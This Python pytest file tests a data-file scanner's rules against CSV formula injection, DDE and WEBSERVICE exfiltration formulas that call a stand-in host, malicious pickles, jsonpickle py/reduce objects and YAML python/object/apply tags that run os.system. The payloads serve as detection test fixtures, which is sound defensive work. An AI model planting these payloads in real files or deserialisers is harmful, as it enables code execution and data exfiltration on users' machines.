"""Data files: what they are, formulas in tables, pickles in rows, tags in YAML."""

import base64
import csv
import io
import json
import pickle
import tracemalloc
import zipfile

import numpy as np
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.conftest import ids, look_at, severe


class Runs:
    def __reduce__(self):
        return print, ("harmless",)


PICKLE = pickle.dumps({"a": [1, 2, 3], "b": "text"})
HARMFUL = pickle.dumps(Runs())


# --- DAT001, DAT006


@pytest.mark.parametrize("name", ["a.csv", "a.tsv", "a.json", "a.jsonl", "a.parquet", "a.arrow", "data/a.txt", "A.CSV"])
def test_dat001_bad_pickle(name: str) -> None:
    assert "DAT001" in ids(look_at(HARMFUL, name))


def test_dat001_bad_native() -> None:
    assert "DAT001" in ids(look_at(b"\x7fELF" + bytes(100), "train.parquet"))


def test_dat001_good_data() -> None:
    table = pd.DataFrame({"a": [1, -2], "b": ["x", "y"]})
    for name, data in {
        "a.csv": table.to_csv().encode(),
        "a.json": table.to_json().encode(),
        "a.jsonl": table.to_json(orient="records", lines=True).encode(),
        "a.parquet": b"PAR1" + bytes(50) + b"PAR1",
        "a.txt": b"some text\n",
        "a.pkl": PICKLE,
        "model.pickle.dat": PICKLE,
        "model.data": PICKLE,
    }.items():
        assert "DAT001" not in ids(look_at(data, name)), name


def test_dat006_bad_zip_named_csv() -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("a.txt", "x")
    assert "DAT006" in ids(look_at(buffer.getvalue(), "a.csv"))


def test_dat006_good_feather_and_csv() -> None:
    assert "DAT006" not in ids(look_at(b"ARROW1\0\0" + bytes(50), "a.feather"))
    assert "DAT006" not in ids(look_at(b"a,b\n1,2\n", "a.csv"))


# --- DAT002, DAT007


def table(*cells: str, delimiter: str = ",") -> bytes:
    out = io.StringIO()
    writer = csv.writer(out, delimiter=delimiter)
    writer.writerow(["id", "name", "note"])
    for number, cell in enumerate(cells):
        writer.writerow([number, cell, "x"])
    return out.getvalue().encode()


COMMANDS = [
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=cmd|'/c calc'!A1",
    "=10+20+cmd|' /C calc'!A0",
    '=WEBSERVICE("http://x.example/"&A1)',
    '=IMPORTXML(CONCAT("http://x.example/?v=", CONCATENATE(A2:E2)), "//a")',
    '=IF(TRUE,WEBSERVICE("http://x.example"),"")',
    '+IMPORTDATA("http://x.example")',
    '=DDE("cmd";"/C calc";"x")',
    '=CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"http://x.example","a",0,0)',
]


@pytest.mark.parametrize("cell", COMMANDS)
@pytest.mark.parametrize("delimiter", [",", ";", "\t", "|"])
def test_dat002_bad_formula(cell: str, delimiter: str) -> None:
    report = look_at(table("plain", cell, delimiter=delimiter), "a.csv")
    assert ids(report) == {"DAT002"}
    (finding,) = report.findings
    assert "row 3, column 2 (name)" in finding.message
    assert finding.where.line == 3


def test_dat002_bad_deep_in_a_big_table() -> None:
    rows = b"".join(b'%d,-0.%d,"a\nb"\n' % (i, i) for i in range(120_000))
    data = b"id,x,y\n" + rows + b"1,\"=cmd|'/c calc'!A1\",z\n" + rows[:200_000]
    report = look_at(data, "big.csv")
    assert ids(report) == {"DAT002"}
    assert report.findings[0].where.line == data[: data.index(b"=cmd")].count(b"\n") + 1


@pytest.mark.parametrize("edge", range(1_048_560, 1_048_600, 7))
def test_dat002_bad_at_the_edge_of_a_chunk(edge: int) -> None:
    data = b"a\n" * (edge // 2) + b"=cmd|'/c calc'!A1\n" + b"a\n" * 100
    assert ids(look_at(data, "a.csv")) == {"DAT002"}


def test_dat002_bad_wide_text_and_declared_delimiter() -> None:
    text = "a,b\n1,\"=cmd|'/c calc'!A1\"\n"
    assert "DAT002" in ids(look_at(text.encode("utf-16"), "a.csv"))
    assert "DAT002" in ids(look_at(b"sep=;\r\na;b\r\n1;=cmd|'/c calc'!A1\r\n", "a.csv"))
    assert "DAT002" in ids(look_at(b"\xef\xbb\xbf=cmd|'/c calc'!A1,b\n", "a.csv"))


def test_dat002_bad_after_a_quote_that_never_closes(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("assaymark.data.tables._FIELD", 1 << 16)
    data = b'a,b\n1,"open\n' + b"x,y\n" * 30_000 + b"2,=cmd|'/c calc'!A1\n"
    report = look_at(data, "a.csv")
    assert "DAT002" in ids(report)


HARMLESS = [
    "-5", "+1", "-", "--", "- a bullet", "+49 170 1234567", "@alice", "@alice said (yes)", "a@b.example", "-0.5e-3", "=", "==", "=1+1", "=A1",
    "+1 (555) 010-9999", "-LOG10(p)", "- call me (maybe)", "@property(x)", "x =SUM(1)", "'=SUM(A1)", "=) smile", "=foo(bar)",
    "a|b!", "- one | two ! three", "=C(N)C", "-(CH2)n-", "+print(x)", "see hyperlink(s)", "text\n=SUM(1)\n+cmd|'x'!A1",
]  # fmt: skip


@pytest.mark.parametrize("cell", HARMLESS)
def test_dat002_good_cell(cell: str) -> None:
    assert not look_at(table(cell, "y", cell), "a.csv").findings


@pytest.mark.parametrize(
    "cell", ['=HYPERLINK("http://x.example?"&A1,"click")', "=SUM(A1:A9)", "= CONCATENATE(A1)", "=-SUM(A1)"]
)
def test_dat007_bad_formula(cell: str) -> None:
    assert ids(look_at(table(cell), "a.csv")) == {"DAT007"}


@pytest.mark.parametrize("cell", HARMLESS)
def test_dat007_good_cell(cell: str) -> None:
    assert not look_at(table(cell, "=WEBSERVICE is a function"), "a.csv").findings


def test_real_tables_are_quiet() -> None:
    random = np.random.default_rng(0)
    frame = pd.DataFrame(random.normal(size=(200, 5)))
    frame["text"] = ['- item, (x) "q" | ! =', "@user: hi", "+1", "a;b"] * 50
    for delimiter in ",;\t|":
        data = frame.to_csv(sep=delimiter).encode()
        assert not look_at(data, "a.csv").findings


# --- DAT004, DAT009


@pytest.mark.parametrize("protocol", range(6))
@pytest.mark.parametrize("encode", [base64.b64encode, base64.urlsafe_b64encode])
def test_dat004_bad_base64(protocol: int, encode) -> None:
    payload = pickle.dumps({"key": [1, 2.5, "text", b"x", None, True], "n": 10**30}, protocol)
    if protocol == 0 and not payload.startswith(b"c"):
        payload = b"cos\nsystem\n(S'id'\ntR."
    if protocol == 1:
        payload = b"cbuiltins\nprint\n(X\x02\x00\x00\x00hitR."
    rows = b'{"a": 1}\n{"a": 2, "blob": "' + encode(payload) + b'"}\n'
    report = look_at(rows, "rows.jsonl")
    assert "DAT004" in ids(report)
    finding = next(f for f in report.findings if f.id == "DAT004")
    assert finding.where.line == 2
    assert "pickle" in report.formats


def test_dat004_bad_other_spellings() -> None:
    encoded = base64.b64encode(HARMFUL)
    for data, name in [
        (b'{"a": "' + HARMFUL.hex().encode() + b'"}', "a.json"),
        (b'{"a": "' + encoded.replace(b"/", b"\\/") + b'"}', "a.json"),
        (b"id,x\n1," + encoded + b"\n", "a.csv"),
        (b'["data:application/octet-stream;base64,' + encoded + b'"]', "a.json"),
    ]:
        assert "DAT004" in ids(look_at(data, name)), name


def test_dat004_bad_large_payload_at_the_edge_of_a_chunk() -> None:
    big = pickle.dumps([b"x" * 300_000, Runs()])
    for lead in (1_048_500, 1_048_570, 1_048_575):
        data = b'{"p": "' + b" " * lead + b'", "b": "' + base64.b64encode(big) + b'"}'
        assert "DAT004" in ids(look_at(data, "a.json")), lead


def test_dat004_bad_payload_is_judged_as_a_file() -> None:
    report = look_at(b'{"a": "' + base64.b64encode(pickle.dumps(Runs())) + b'"}', "a.json")
    assert any(f.where.member.startswith("base64 at") for f in report.findings)


def test_dat004_good_other_base64() -> None:
    random = np.random.default_rng(1)
    rows = []
    for _ in range(300):
        noise = b"\x80" + bytes([int(random.integers(0, 6))]) + random.bytes(400)
        rows.append(
            json.dumps({"image": base64.b64encode(random.bytes(600)).decode(), "emb": base64.b64encode(noise).decode()})
        )
    rows.append(
        json.dumps(
            {
                "png": base64.b64encode(b"\x89PNG\r\n\x1a\n" + random.bytes(99)).decode(),
                "id": "Y2xhc3M",
                "h": "80041234567890abcdef",
            }
        )
    )
    assert not look_at("\n".join(rows).encode(), "a.jsonl").findings


@pytest.mark.parametrize(
    "text",
    [
        '{"py/reduce": [{"py/type": "os.system"}, {"py/tuple": ["id"]}]}',
        '{"py/object": "subprocess.Popen"}',
        '{"a": {"py\\/repr": "os/os.system"}}',
        '{"py/function": "os.system"}',
    ],
)
def test_dat009_bad_instruction(text: str) -> None:
    assert ids(look_at(f'{{"x": 1}}\n{text}\n'.encode(), "a.jsonl")) == {"DAT009"}


def test_dat009_good_plain_objects() -> None:
    assert not look_at(b'{"py/object": "my.Point", "x": 1, "language": "py/reduce is a key"}', "a.json").findings


# --- DAT005, DAT010, DAT011


@pytest.mark.parametrize(
    "text",
    [
        "a: !!python/object/apply:os.system ['id']",
        "a: !!python/object/new:subprocess.Popen [['id']]",
        "!<tag:yaml.org,2002:python/object/apply:os.system> ['id']",
        "%TAG ! tag:yaml.org,2002:python/\n---\n!object/apply:os.system ['id']",
        "a: !!%70ython/object/apply:os.system ['id']",
        "{{ x }}\na: !!python/object/apply:os.system ['id']",
        "ok: 1\n--- \nb: !!python/object/apply:eval ['1']\n--- {",
    ],
)
def test_dat005_bad_tag(text: str) -> None:
    report = look_at(text.encode(), "hparams.yaml")
    assert "DAT005" in ids(report)
    finding = next(f for f in report.findings if f.id == "DAT005")
    assert finding.severity.word == "critical"
    assert "apply" in text.split("\n")[finding.where.line - 1] or "new" in text


@pytest.mark.parametrize("tag", ["object:my.Class {a: 1}", "name:os.system", "module:evil_module"])
def test_dat010_bad_tag(tag: str) -> None:
    assert ids(look_at(f"a: 1\nb: !!python/{tag} ''\n".encode(), "a.yml")) & {"DAT010"}


def test_dat011_bad_inert_object() -> None:
    report = look_at(
        b"p: !!python/object/apply:pathlib.PosixPath [a, b]\nn: !!python/object:argparse.Namespace {x: 1}\n", "a.yaml"
    )
    assert ids(report) == {"DAT011"}
    assert not severe(report)


PLAIN_YAML = b"""
shape: !!python/tuple [1, 2]
name: !custom thing
when: !!timestamp 2026-01-01
text: "!!python/object/apply:os.system"
block: |
  !!python/object/apply:os.system ['id']
# !!python/object/apply:os.system
"""


def test_dat005_good_text() -> None:
    assert not look_at(PLAIN_YAML, "a.yaml").findings


def test_dat010_good_plain_values() -> None:
    assert not look_at(PLAIN_YAML, "a.yaml").findings


def test_dat011_good_plain_values() -> None:
    assert not look_at(b"a: [1, 2]\n", "a.yaml").findings


# --- any bytes


_SEEDS = {
    "a.csv": table(*COMMANDS),
    "a.jsonl": b'{"a": "' + base64.b64encode(HARMFUL) + b'", "py/reduce": [1]}\n',
    "a.yaml": b"a: !!python/object/apply:os.system ['id']\nb: &x [*x]\n",
    "a.tsv": table(*COMMANDS, delimiter="\t"),
}


@given(st.sampled_from(sorted(_SEEDS)), st.binary(max_size=20), st.integers(0, 400), st.integers(0, 40))
@settings(max_examples=100, deadline=None)
def test_any_bytes_give_a_report(name: str, noise: bytes, at: int, cut: int) -> None:
    seed = _SEEDS[name]
    assert "CHK001" not in ids(look_at(seed[:at] + noise + seed[at + cut :], name))


@given(st.binary(max_size=300))
@settings(max_examples=100, deadline=None)
def test_any_base64_gives_a_report(data: bytes) -> None:
    rows = b'{"a": "' + base64.b64encode(b"\x80\x04" + data) + b'"}'
    assert "CHK001" not in ids(look_at(rows, "a.json"))


def test_a_line_without_end_is_not_held_in_memory() -> None:
    data = b"a,b\n=cmd|'/c calc'!A0,1\n" + b"x," * (80 << 20)
    tracemalloc.start()
    try:
        report = look_at(data, "t.csv")
        assert tracemalloc.get_traced_memory()[1] < 600 << 20
    finally:
        tracemalloc.stop()
    assert {"DAT002", "CHK003"} <= ids(report)
